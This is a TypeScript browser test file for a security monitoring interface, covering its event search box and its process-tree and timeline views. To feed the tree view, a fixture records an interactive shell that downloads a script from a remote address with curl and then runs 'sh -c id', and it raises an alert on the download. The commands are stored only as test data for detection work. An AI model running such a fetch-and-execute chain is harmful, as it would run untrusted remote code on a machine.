/** The search box and the process tree in a real browser. */
import { join } from 'node:path';
import t from 'tap';
import type { RunningApi } from '../collector/api/start.ts';
import { startApi } from '../collector/api/start.ts';
import { addEvent, addEvents, addHosts, nowUs, raise, raisedAgo } from './scene.ts';
import { absent, buildWeb, pictures, signIn, webRoot } from './visit.ts';

t.before(() => buildWeb(t));

t.test(
  'the search box completes names, says what is wrong and is in the address',
  { skip: absent },
  async (t) => {
    const api = await startApi(t, { webRoot: webRoot() });
    await addHosts(api);
    addEvents(api);
    const { page, faults } = await signIn(t, api);
    await page.getByRole('link', { name: 'Events', exact: true }).click();
    const box = page.getByRole('combobox', { name: 'Filter events' });
    const rows = page.locator('table.events tbody tr');
    await box.pressSequentially('source.i');
    await page.getByRole('option', { name: /^source\.ip:/ }).waitFor();
    await page.screenshot({ path: join(pictures, 'search-completion.png') });
    await box.press('Enter');
    t.equal(await box.inputValue(), 'source.ip:');
    await box.pressSequentially('203.0.113.0/24');
    await page.waitForURL(/filter=source\.ip%3A203\.0\.113\.0%2F24/);
    await rows.filter({ hasText: 'login' }).first().waitFor();
    await page.waitForFunction(() => !document.querySelector('table.events')?.textContent?.includes('curl'));
    t.equal(await rows.count(), 3);

    await box.fill('proces.name:curl');
    await page.getByText('There is no field proces.name.').waitFor();
    t.equal(await box.getAttribute('aria-invalid'), 'true');
    t.equal(await page.locator('.filter-where mark').textContent(), 'proces.name');
    t.match(await page.locator('.filter-problem').textContent(), /Did you mean process\.name/);
    t.equal(await rows.count(), 3, 'what was shown stays');
    await page.screenshot({ path: join(pictures, 'search-problem.png') });

    await box.fill('process.name:nothing');
    await page.getByText('No event fits').waitFor();
    await page.screenshot({ path: join(pictures, 'search-empty.png') });
    await page.getByRole('button', { name: /^process\.name:curl and not/ }).click();
    await rows.first().waitFor();

    await page.goto(`${api.baseUrl}/?filter=type%3Alogin`);
    await rows.first().waitFor();
    t.equal(await box.inputValue(), 'type:login');
    t.equal(await rows.count(), 3);
    t.same(faults, []);
  },
);

/** sshd → bash → curl, which connects; an alert on curl. */
async function addTree(api: RunningApi): Promise<void> {
  const from = nowUs() - 60_000_000;
  const start = (pid: number, parent: number, command: string, seconds: number, over = {}) =>
    addEvent(api, 'process.start', {
      time: from + seconds * 1_000_000,
      'process.pid': pid,
      'process.entity_id': `t${pid}`,
      'process.start': from + seconds * 1_000_000,
      'process.name': command.split(' ')[0],
      'process.command_line': command,
      'process.parent.pid': parent,
      'process.parent.entity_id': `t${parent}`,
      'user.name': 'ada',
      ...over,
    });
  start(1, 0, '/sbin/init', 0, { 'event.baseline': true, 'process.parent.entity_id': undefined });
  start(70, 1, 'sshd: ada', 1);
  start(71, 70, 'bash -i', 2);
  start(72, 71, 'curl -s http://203.0.113.9/x.sh', 3);
  start(73, 72, 'sh -c id', 4);
  addEvent(api, 'network.connection', {
    time: from + 3_500_000,
    'event.action': 'connected',
    'source.ip': '10.0.0.1',
    'destination.ip': '203.0.113.9',
    'destination.port': 80,
    'process.pid': 72,
    'process.entity_id': 't72',
  });
  const alert = raisedAgo(
    { ruleTitle: 'Download from an address', hostId: 'h1', hostName: 'web-1' },
    'tree',
    55,
  );
  const event = { ...alert.event, time: from + 3_000_000, 'process.pid': 72, 'process.entity_id': 't72' };
  await raise(api, { ...alert, event });
}

t.test('an alert leads to the tree of its process, which is walked by keys', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  await addTree(api);
  const { page, faults } = await signIn(t, api);
  await page.goto(`${api.baseUrl}/alerts/tree`);
  await page.getByRole('link', { name: 'process tree and timeline' }).click();
  const items = page.getByRole('treeitem');
  await items.first().waitFor();
  t.equal(await items.count(), 5, 'from init to what curl began');
  const current = page.locator('[role=treeitem][aria-selected=true]');
  t.match(await current.textContent(), /curl -s/);
  t.match(await current.textContent(), /203\.0\.113\.9/, 'with its connection');
  await current.focus();
  await page.keyboard.press('ArrowUp');
  t.match(await current.textContent(), /bash -i/);
  await page.keyboard.press('ArrowLeft');
  t.equal(await items.count(), 3, 'folded');
  t.equal(await current.getAttribute('aria-expanded'), 'false');
  await page.keyboard.press('ArrowRight');
  t.equal(await items.count(), 5);
  await page.keyboard.press('End');
  t.match(await current.textContent(), /sh -c id/);
  t.equal(await current.getAttribute('aria-level'), '5');
  await page.keyboard.press('Enter');
  await current.getByRole('link', { name: 'All its events' }).waitFor();
  await page.screenshot({ path: join(pictures, 'tree.png') });
  await page.getByRole('button', { name: 'Timeline' }).click();
  t.equal(await page.locator('table.timeline tbody tr').count(), 6);
  await page.screenshot({ path: join(pictures, 'timeline.png') });
  await page.getByRole('button', { name: 'Tree', exact: true }).click();
  await items.last().focus();
  await page.keyboard.press('Enter');
  await page.getByRole('link', { name: 'All its events' }).last().click();
  await page.locator('table.events tbody tr').first().waitFor();
  t.match(await page.getByRole('combobox', { name: 'Filter events' }).inputValue(), /process\.entity_id:/);
  t.same(faults, []);
});
